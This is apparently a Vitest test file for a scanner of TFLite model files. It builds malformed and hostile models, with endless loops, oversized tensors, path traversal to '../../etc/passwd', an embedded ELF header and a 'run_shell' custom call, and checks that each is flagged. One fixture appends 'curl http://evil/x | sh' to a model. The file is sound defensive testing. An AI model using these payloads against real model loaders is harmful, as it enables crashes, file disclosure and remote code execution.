import { describe, expect, it } from 'vitest';
import { floats, int32s, type ModelInput, stringData, tfliteModel } from '../../../tests/support/tflite-builder.ts';
import { scanTfliteBytes } from '../../../tests/support/tflite-scan.ts';
import { tfliteRules } from './rules.ts';

const conv = { padding: 0, strideW: 1, strideH: 1, dilationW: 1, dilationH: 1 };

/** A convolution with a constant filter, as converters write it. */
function convModel(options = conv, change: Partial<ModelInput> = {}): Buffer {
  return tfliteModel({
    subgraphs: [
      {
        tensors: [
          { name: 'image', shape: [1, 4, 4, 1] },
          { name: 'filter', shape: [2, 3, 3, 1], data: floats(...Array.from({ length: 18 }, (_, at) => at)) },
          { name: 'out', shape: [1, 4, 4, 2] },
        ],
        inputs: [0],
        outputs: [2],
        operators: [{ op: 'CONV_2D', inputs: [0, 1], outputs: [2], options: ['Conv2DOptions', options] }],
      },
    ],
    signatures: [{ key: 'serving_default', inputs: { x: 0 }, outputs: { y: 2 } }],
    ...change,
  });
}

/** One operator on an input of the request and constants. */
function oneOperator(
  op: string,
  constants: readonly (readonly [Buffer, readonly number[], string?])[],
  options?: [string, Record<string, number>],
): Buffer {
  const operands = constants.map(([data, shape, type = 'INT32'], at) => ({ name: `operand${at + 1}`, data, shape, type }));
  return tfliteModel({
    subgraphs: [
      {
        tensors: [{ name: 'x', shape: [1, 4] }, ...operands, { name: 'y', shape: [1, 4] }],
        inputs: [0],
        outputs: [operands.length + 1],
        operators: [
          {
            op,
            inputs: [0, ...operands.map((_, at) => at + 1)],
            outputs: [operands.length + 1],
            ...(options === undefined ? {} : { options }),
          },
        ],
      },
    ],
  });
}

/** Counts from `start` by `step` while it is below `limit`. */
function loop({
  limit,
  step = 1,
  start = 0,
  isRequest = false,
}: {
  limit: number;
  step?: number;
  start?: number;
  isRequest?: boolean;
}): Buffer {
  const scalar = { type: 'INT32', shape: [] };
  const truth = { type: 'BOOL', shape: [] };
  return tfliteModel({
    subgraphs: [
      {
        tensors: [
          { name: 'limit', ...scalar, ...(isRequest ? {} : { data: int32s(limit) }) },
          { name: 'start', ...scalar, data: int32s(start) },
          { name: 'end', ...scalar },
          { name: 'limit_out', ...scalar },
        ],
        inputs: isRequest ? [0] : [],
        outputs: [2],
        operators: [
          {
            op: 'WHILE',
            inputs: [1, 0],
            outputs: [2, 3],
            options: ['WhileOptions', { condSubgraphIndex: 1, bodySubgraphIndex: 2 }],
          },
        ],
      },
      {
        name: 'cond',
        tensors: [
          { name: 'i', ...scalar },
          { name: 'n', ...scalar },
          { name: 'go', ...truth },
        ],
        inputs: [0, 1],
        outputs: [2],
        operators: [{ op: 'LESS', inputs: [0, 1], outputs: [2] }],
      },
      {
        name: 'body',
        tensors: [
          { name: 'i', ...scalar },
          { name: 'n', ...scalar },
          { name: 'step', ...scalar, data: int32s(step) },
          { name: 'next', ...scalar },
        ],
        inputs: [0, 1],
        outputs: [3, 1],
        operators: [{ op: 'ADD', inputs: [0, 2], outputs: [3] }],
      },
    ],
  });
}

function withTensor(fields: Record<string, unknown>, more: Record<string, unknown> = {}): Buffer {
  return tfliteModel({
    subgraphs: [
      {
        tensors: [
          { name: 'x', shape: [2] },
          { name: 'w', shape: [2], data: floats(1, 2), ...more, fields: fields as never },
          { name: 'y', shape: [2] },
        ],
        inputs: [0],
        outputs: [2],
        operators: [{ op: 'MUL', inputs: [0, 1], outputs: [2] }],
      },
    ],
  });
}

const attacks: readonly (readonly [title: string, bytes: () => Buffer, expected: RegExp])[] = [
  ['a stride of zero', () => convModel({ ...conv, strideW: 0 }), /high crash\/tflite-parameter: CONV_2D operator 0 .* strideW 0/],
  ['a dilation of zero', () => convModel({ ...conv, dilationH: 0 }), /high crash\/tflite-parameter: .*dilationH 0/],
  [
    'options of another operation',
    () => oneOperator('SPACE_TO_DEPTH', [], ['SplitOptions', { numSplits: 2 }]),
    /crash\/tflite-parameter: SPACE_TO_DEPTH .* blockSize 0/,
  ],
  [
    'a huge constant shape',
    () => oneOperator('BROADCAST_TO', [[int32s(9_000_000, 9_000_000), [2]]]),
    /high memory\/tflite-sized-by-constant: BROADCAST_TO .*\[9000000,9000000\].* TiB/,
  ],
  [
    'many small multiples',
    () => oneOperator('TILE', [[int32s(100_000, 10_000), [2]]]),
    /high memory\/tflite-sized-by-constant: TILE/,
  ],
  [
    'a padding that is huge',
    () => oneOperator('PAD', [[int32s(0, 0, 0, 2_000_000_000), [2, 2]]]),
    /high memory\/tflite-sized-by-constant: PAD/,
  ],
  [
    'a negative padding',
    () => oneOperator('PAD', [[int32s(0, 0, -3, 0), [2, 2]]]),
    /high crash\/tflite-parameter: PAD .* padding -3/,
  ],
  ['an axis out of range', () => oneOperator('ARG_MAX', [[int32s(7), []]]), /high crash\/tflite-parameter: ARG_MAX .*axis 7/],
  [
    'an index out of range',
    () => oneOperator('GATHER', [[int32s(0, -5), [2]]], ['GatherOptions', { axis: 1 }]),
    /high crash\/tflite-parameter: GATHER .*index -5/,
  ],
  [
    'a permutation that is none',
    () => oneOperator('TRANSPOSE', [[int32s(0, 9), [2]]]),
    /crash\/tflite-parameter: TRANSPOSE .*\[0,9\]/,
  ],
  [
    'a stride of zero in a slice',
    () =>
      oneOperator('STRIDED_SLICE', [
        [int32s(0, 0), [2]],
        [int32s(1, 1), [2]],
        [int32s(0, 1), [2]],
      ]),
    /crash\/tflite-parameter: STRIDED_SLICE .*stride 0/,
  ],
  [
    'a block size of zero',
    () =>
      oneOperator('BATCH_TO_SPACE_ND', [
        [int32s(0, 1), [2]],
        [int32s(0, 0, 0, 0), [2, 2]],
      ]),
    /crash\/tflite-parameter: BATCH_TO_SPACE_ND .*block size 0/,
  ],
  [
    'too few inputs',
    () =>
      tfliteModel({
        subgraphs: [
          {
            tensors: [{ shape: [1] }, { shape: [1] }],
            inputs: [0],
            outputs: [1],
            operators: [{ op: 'ADD', inputs: [0], outputs: [1] }],
          },
        ],
      }),
    /high malformed\/tflite-arity: ADD/,
  ],
  [
    'an input that may not be left out',
    () =>
      tfliteModel({
        subgraphs: [
          {
            tensors: [{ shape: [1] }, { shape: [1] }],
            inputs: [0],
            outputs: [1],
            operators: [{ op: 'MUL', inputs: [0, -1], outputs: [1] }],
          },
        ],
      }),
    /high malformed\/tflite-arity: MUL .*-1/,
  ],
  [
    'a tensor that is not there',
    () =>
      tfliteModel({
        subgraphs: [
          { tensors: [{ shape: [1] }], inputs: [0], outputs: [0], operators: [{ op: 'ABS', inputs: [999_999], outputs: [0] }] },
        ],
      }),
    /high malformed\/tflite-index: ABS .*tensor 999999/,
  ],
  [
    'an operator code that is not there',
    () => convModel(conv, { fields: { operatorCodes: [] } }),
    /high malformed\/tflite-index: .*operator code 0/,
  ],
  ['a buffer that is not there', () => withTensor({ buffer: 77 }), /high malformed\/tflite-index: .*buffer 77/],
  ['a data type that is none', () => withTensor({ type: 99 }), /high malformed\/tflite-index: .*data type 99/],
  [
    'a subgraph that is not there',
    () => oneOperator('CALL_ONCE', [], ['CallOnceOptions', { initSubgraphIndex: 8 }]),
    /high malformed\/tflite-index: .*subgraph 8/,
  ],
  [
    'a buffer behind the end of the file',
    () => convModel(conv, { extraBuffers: [{ offset: 1_000_000, size: 4096 }] }),
    /high malformed\/tflite-index: buffer \d+ has 4096 bytes at offset 1000000/,
  ],
  ['too few bytes for the shape', () => withTensor({}, { shape: [2000] }), /high malformed\/tflite-buffer: .*8000 bytes/],
  ['a negative size', () => withTensor({}, { shape: [-4] }), /high malformed\/tflite-buffer: .*negative size/],
  [
    'two sizes that overflow',
    () => withTensor({ buffer: 0 }, { shape: [9_000_000, 9_000_000] }),
    /high memory\/tflite-tensor: .*TiB/,
  ],
  [
    'strings that leave their buffer',
    () => withTensor({}, { type: 'STRING', shape: [1], data: int32s(1, 12, 9999) }),
    /high malformed\/tflite-buffer: .*holds strings/,
  ],
  [
    'a scale of zero',
    () => withTensor({ quantization: { scale: [0], zeroPoint: [0] } }, { type: 'INT8', data: Buffer.from([1, 2]) }),
    /medium malformed\/tflite-quantization: .*scale 0/,
  ],
  [
    'too few scales',
    () => withTensor({ quantization: { scale: [1, 1, 1], zeroPoint: [0, 0, 0] } }, { type: 'INT8', data: Buffer.from([1, 2]) }),
    /medium malformed\/tflite-quantization: .*3 scales for 2/,
  ],
  [
    'sparse without segments',
    () => withTensor({ sparsity: { traversalOrder: [0], dimMetadata: [{ format: 1 }] } }),
    /high malformed\/tflite-quantization: .*null pointer/,
  ],
  [
    'what was never written',
    () =>
      tfliteModel({
        subgraphs: [
          {
            tensors: [{ name: 'x', shape: [2] }, { name: 'ghost', shape: [2] }, { shape: [2] }],
            inputs: [0],
            outputs: [2],
            operators: [{ op: 'ADD', inputs: [0, 1], outputs: [2] }],
          },
        ],
      }),
    /medium malformed\/tflite-data-flow: ADD .*"ghost"/,
  ],
  [
    'writing to a constant',
    () =>
      tfliteModel({
        subgraphs: [
          {
            tensors: [{ shape: [1] }, { name: 'c', shape: [1], data: floats(1) }],
            inputs: [0],
            outputs: [1],
            operators: [{ op: 'ABS', inputs: [0], outputs: [1] }],
          },
        ],
      }),
    /high malformed\/tflite-data-flow: ABS .*constant/,
  ],
  [
    'input and output at once',
    () =>
      tfliteModel({
        subgraphs: [
          {
            tensors: [{ shape: [1] }, { shape: [1] }],
            inputs: [0],
            outputs: [1],
            operators: [
              { op: 'ABS', inputs: [0], outputs: [1] },
              { op: 'NEG', inputs: [1], outputs: [1] },
            ],
          },
        ],
      }),
    /high malformed\/tflite-data-flow: NEG/,
  ],
  [
    'a subgraph that runs itself',
    () => oneOperator('IF', [], ['IfOptions', { thenSubgraphIndex: 0, elseSubgraphIndex: 0 }]),
    /critical crash\/recursive-subgraph: subgraph 0/,
  ],
  ['a loop that is far too long', () => loop({ limit: 2_000_000_000 }), /high hang\/tflite-long-loop: WHILE .*2000000000/],
  ['a loop that makes no progress', () => loop({ limit: 10, step: 0 }), /high hang\/tflite-endless-loop/],
  ['a loop that runs the other way', () => loop({ limit: 10, step: -1 }), /high hang\/tflite-endless-loop: .*-1/],
  ['a loop that a request bounds', () => loop({ limit: 0, isRequest: true }), /medium hang\/tflite-request-loop/],
  ['a custom operation', () => oneOperator('EvilOp', []), /high custom-op\/tflite: .*"EvilOp"/],
  ['a custom operation that looks like Flex', () => oneOperator('flexReadFile', []), /high custom-op\/tflite: .*"flexReadFile"/],
  [
    'a signature that feeds a constant',
    () => convModel(conv, { signatures: [{ key: 's', inputs: { x: 1 }, outputs: { y: 2 } }] }),
    /medium contract\/tflite-signature: .*"filter"/,
  ],
  [
    'a signature without a tensor',
    () => convModel(conv, { signatures: [{ key: 's', inputs: { x: 44 } }] }),
    /high malformed\/tflite-index: .*tensor 44/,
  ],
  [
    'two signatures with one name',
    () => convModel(conv, { signatures: [{ key: 's' }, { key: 's' }] }),
    /medium parser-differential\/tflite-signature/,
  ],
  [
    'an operator code that old readers take for another',
    () => convModel(conv, { fields: { operatorCodes: [{ deprecatedBuiltinCode: 1, builtinCode: 3, version: 1 }] } }),
    /medium parser-differential\/tflite-opcode: .*CONV_2D/,
  ],
  [
    'external weights outside',
    () => convModel(conv, { fields: { externalBufferGroups: [{ name: '../../etc/passwd' }] } }),
    /high path-traversal\/tflite-external-buffer: .*etc\/passwd/,
  ],
  [
    'a program in a buffer that nothing uses',
    () =>
      convModel(conv, {
        extraBuffers: [{ data: Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1'), Buffer.alloc(120, 1)]) }],
      }),
    /high payload\/tflite-unused-buffer/,
  ],
  [
    'a script behind the model',
    () => Buffer.concat([convModel(), Buffer.from('#!/bin/sh\ncurl http://evil/x | sh\n')]),
    /high payload\/appended/,
  ],
  [
    'a StableHLO custom call',
    () =>
      tfliteModel({
        subgraphs: [
          {
            tensors: [{ shape: [1] }, { shape: [1] }],
            inputs: [0],
            outputs: [1],
            operators: [
              {
                op: 'STABLEHLO_CUSTOM_CALL',
                inputs: [0],
                outputs: [1],
                options2: ['StablehloCustomCallOptions', { callTargetName: 'run_shell', backendConfig: 'id' }],
              },
            ],
          },
        ],
      }),
    /high code-execution\/tflite-custom-call: .*run_shell/,
  ],
  ['no subgraph', () => tfliteModel({ subgraphs: [] }), /medium malformed\/tflite-structure/],
];

/** Findings that are worth a line and refuse nothing. */
const remarks: readonly (readonly [title: string, bytes: () => Buffer, expected: RegExp])[] = [
  ['a known custom operation', () => oneOperator('TFLite_Detection_PostProcess', []), /^low custom-op\/tflite-known/],
  [
    'a vtable at an odd place',
    () => {
      // A byte in front of the root table moves all that follows.
      const model = convModel();
      const moved = Buffer.concat([model.subarray(0, 8), Buffer.alloc(1), model.subarray(8)]);
      moved.writeUInt32LE(model.readUInt32LE(0) + 1, 0);
      return moved;
    },
    /^low malformed\/flatbuffer-alignment/,
  ],
  [
    'metadata that is none',
    () => convModel(conv, { metadata: { TFLITE_METADATA: Buffer.from('nothing like it') } }),
    /^low malformed\/tflite-metadata/,
  ],
  [
    'a variable',
    () =>
      tfliteModel({
        subgraphs: [
          {
            tensors: [{ type: 'RESOURCE', shape: [] }],
            operators: [
              { op: 'VAR_HANDLE', outputs: [0], options: ['VarHandleOptions', { container: 'c', sharedName: 'count' }] },
            ],
          },
        ],
      }),
    /^info cross-model\/tflite-resource: .*"c\/count"/,
  ],
];

describe('scanTflite', () => {
  it.each(remarks)('remarks on %s', async (_, bytes, expected) => {
    const { all, serious } = await scanTfliteBytes(bytes());
    expect(serious).toEqual([]);
    expect(all).toEqual([expect.stringMatching(expected)]);
  });

  it('adds up what lives at the same time', async () => {
    const megabyte = 262_144;
    const inputs = Array.from({ length: 12 }, (_, at) => at);
    const bytes = tfliteModel({
      subgraphs: [
        {
          tensors: inputs.map(() => ({ shape: [megabyte] })),
          inputs: inputs.slice(1),
          outputs: [0],
          operators: [{ op: 'ADD_N', inputs: inputs.slice(1), outputs: [0] }],
        },
      ],
    });
    expect((await scanTfliteBytes(bytes)).serious).toEqual([]);
    const { serious } = await scanTfliteBytes(bytes, { memoryBudgetBytes: 2 * 1024 * 1024 });
    expect(serious).toEqual([expect.stringMatching(/^high memory\/tflite-arena: .*12.0 MiB/)]);
  });

  it.each(attacks)('finds %s', async (_, bytes, expected) => {
    const { serious } = await scanTfliteBytes(bytes());
    expect(
      serious.some((line) => expected.test(line)),
      serious.join('\n'),
    ).toBe(true);
  });

  it.each([
    ['a convolution', convModel()],
    ['a loop of ten', loop({ limit: 10 })],
    ['a loop that never begins', loop({ limit: -1 })],
    ['strings', withTensor({}, { type: 'STRING', shape: [2], data: stringData('a', 'bc') })],
    [
      'a quantized weight',
      withTensor({ quantization: { scale: [0.5, 0.25], zeroPoint: [0, 0] } }, { type: 'INT8', data: Buffer.from([1, 2]) }),
    ],
    ['a tile', oneOperator('TILE', [[int32s(1, 3), [2]]])],
    ['a gather', oneOperator('GATHER', [[int32s(0, 3), [2]]], ['GatherOptions', { axis: 1 }])],
    ['zeros behind the model', Buffer.concat([convModel(), Buffer.alloc(12)])],
    ['a known custom operation', oneOperator('TFLite_Detection_PostProcess', [])],
  ])('is silent on %s', async (_, bytes) => {
    const { serious, context } = await scanTfliteBytes(bytes);
    expect(serious).toEqual([]);
    expect(context.parts).toEqual([]);
  });

  it('says which operations the model uses, and that a request reaches them', async () => {
    const { context, weights } = await scanTfliteBytes(convModel());
    expect(context.uses).toContainEqual(
      expect.objectContaining({
        kind: 'tflite-op',
        name: 'CONV_2D',
        trigger: 'inference',
        isRequestControlled: true,
      }),
    );
    expect(weights).toEqual(['filter']);
    expect(context.artifacts[0]).toMatchObject({ format: 'tflite', facts: { operators: 1, tensors: 3, signatures: 1 } });
  });

  it('gives the way from a signature to the operator', async () => {
    const { context } = await scanTfliteBytes(convModel({ ...conv, strideH: 0 }));
    const finding = context.findings.find(({ ruleId }) => ruleId === 'crash/tflite-parameter');
    expect(finding?.chain.map((step) => step.via)).toEqual(['signature serving_default', 'operator 0']);
    expect(finding).toMatchObject({ trigger: 'inference', location: { op: 'CONV_2D', path: 'subgraphs[0].operators[0]' } });
  });

  it('follows a size through operators that compute it', async () => {
    const scalar = { type: 'INT32', shape: [1] };
    const { serious } = await scanTfliteBytes(
      tfliteModel({
        subgraphs: [
          {
            tensors: [
              { name: 'x', shape: [1] },
              { name: 'a', ...scalar, data: int32s(60_000) },
              { name: 'square', ...scalar },
              { name: 'y', shape: [1] },
            ],
            inputs: [0],
            outputs: [3],
            operators: [
              { op: 'MUL', inputs: [1, 1], outputs: [2] },
              { op: 'FILL', inputs: [2, 0], outputs: [3] },
            ],
          },
        ],
      }),
    );
    expect(serious).toEqual([expect.stringMatching(/high memory\/tflite-sized-by-constant: FILL .*\[3600000000\]/)]);
  });

  it('takes a size of the request for bounded when the model bounds it', async () => {
    const build = (bounded: boolean): Buffer =>
      tfliteModel({
        subgraphs: [
          {
            tensors: [
              { name: 'n', type: 'INT32', shape: [1] },
              { name: 'most', type: 'INT32', shape: [1], data: int32s(100) },
              { name: 'size', type: 'INT32', shape: [1] },
              { name: 'zero', shape: [], data: floats(0) },
              { name: 'y', shape: [1] },
            ],
            inputs: [0],
            outputs: [4],
            operators: [
              { op: bounded ? 'MINIMUM' : 'MAXIMUM', inputs: [0, 1], outputs: [2] },
              { op: 'FILL', inputs: [2, 3], outputs: [4] },
            ],
          },
        ],
      });
    expect((await scanTfliteBytes(build(true))).serious).toEqual([]);
    expect((await scanTfliteBytes(build(false))).serious).toEqual([
      expect.stringMatching(/medium memory\/tflite-sized-by-request: FILL/),
    ]);
  });

  it('sees subgraphs that double each other', async () => {
    const depth = 40;
    const truth = { type: 'BOOL', shape: [] };
    const subgraphs = Array.from({ length: depth }, (_, at) => ({
      name: `s${at}`,
      tensors: [{ name: 'c', ...truth }],
      inputs: [0],
      outputs: [0],
      operators:
        at === depth - 1
          ? []
          : [0, 1].map(() => ({
              op: 'IF',
              inputs: [0, 0],
              options: ['IfOptions', { thenSubgraphIndex: at + 1, elseSubgraphIndex: at + 1 }] as const,
            })),
    }));
    const { serious } = await scanTfliteBytes(tfliteModel({ subgraphs }));
    expect(serious).toEqual([expect.stringMatching(/high hang\/tflite-composition/)]);
  });

  it('documents every rule that it reports', async () => {
    const ids = new Set(tfliteRules.map((rule) => rule.id));
    expect(ids.size).toBe(tfliteRules.length);
    for (const [, bytes] of attacks) {
      const { context } = await scanTfliteBytes(bytes());
      for (const finding of context.findings) expect(ids).toContain(finding.ruleId);
    }
  });
});
